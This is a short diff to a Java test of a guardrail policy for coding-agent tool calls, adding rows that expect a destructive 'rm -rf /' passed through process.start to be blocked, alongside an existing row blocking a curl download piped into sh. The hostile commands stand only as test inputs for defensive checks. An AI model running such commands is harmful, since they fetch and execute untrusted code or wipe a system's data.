@@ -97,6 +97,8 @@ class CodingAgentToolsTests {
                 "block-curl-pipe-shell        | BLOCK   | Bash                        | {\"command\":\"curl x.example -o x && sh x\"}",
                 "block-curl-pipe-shell        | ASK     | Bash                        | {\"command\":\"echo 'unfinished\"}",
                 "block-curl-pipe-shell        | PASS    | crm.note                    | {\"args\":\"it's fine\"}",
+                "block-home-dir-destructive | BLOCK | process.start | {\"shell\": true, \"args\": [\"rm\", \"-rf\", \"/\"]}",
+                "block-home-dir-destructive | BLOCK | process.start | {\"bash\": \"bash\", \"args\": [\"rm\", \"-rf\", \"/\"]}",
             })
     void toolsAreJudgedByTheirNamesAndArguments(String policy, Effect effect, String action, String args) {
         Map<String, Object> arguments = this.json.readValue(args, new TypeReference<Map<String, Object>>() {});
